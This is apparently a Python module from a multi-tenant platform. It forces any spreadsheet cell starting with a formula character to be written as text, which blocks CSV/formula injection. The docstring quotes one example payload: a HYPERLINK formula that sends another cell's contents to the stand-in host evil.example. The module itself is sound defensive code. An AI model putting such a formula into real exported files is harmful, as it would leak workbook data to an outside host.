"""Cells for every workbook the platform writes: text stays text.

A spreadsheet reads a cell that starts with ``=``, ``+``, ``-``, ``@``, tab or carriage return
as a formula (OWASP "CSV injection"); openpyxl itself turns any str starting with ``=`` into a
formula cell. A tenant's ticket subject such as ``=HYPERLINK("http://evil.example/?x="&A2,"…")``
would then be a live link, reading other cells, in the workbook staff download.

Every text value that starts with one of those characters is written as a text cell
(``data_type = "s"``) holding the value unchanged. We do not prefix a quote: the exported text
must be what was entered (it is re-imported, searched and compared), and an ``xlsx`` text cell
is never evaluated, whatever it starts with. Characters that XML cannot carry (control
characters other than tab, line feed and carriage return) are dropped instead of failing the
whole export.

Use ``append_row(ws, values)`` instead of ``ws.append(values)``, or ``safe_cell(ws, value)``
for one value; both work for normal and write-only worksheets.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def formula_like(value: Any) -> bool:
    """Whether a spreadsheet could read this value as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def safe_cell(ws, value: Any) -> Any:
    """The value to put in ``ws``: formula-like text becomes a text cell holding it unchanged;
    anything else is returned as it is (numbers, dates and plain text are safe)."""
    if not isinstance(value, str):
        return value
    value = ILLEGAL_CHARACTERS_RE.sub("", value)
    if not formula_like(value):
        return value
    cell = WriteOnlyCell(ws, value)
    cell.data_type = "s"  # openpyxl made it a formula ("f") when the value starts with "="
    return cell


def safe_row(ws, values: Iterable[Any]) -> list[Any]:
    return [safe_cell(ws, v) for v in values]


def append_row(ws, values: Iterable[Any]) -> None:
    """``ws.append(values)`` with every value made safe by ``safe_cell``."""
    ws.append(safe_row(ws, values))


def sheet_title(text: Any) -> str:
    """A worksheet title from any label: Excel refuses ``[]:*?/\\`` and more than 31 characters
    (a model called “计算/存储中心” must still export)."""
    import re

    return re.sub(r"[\[\]:*?/\\]", "·", str(text))[:31] or "Sheet"
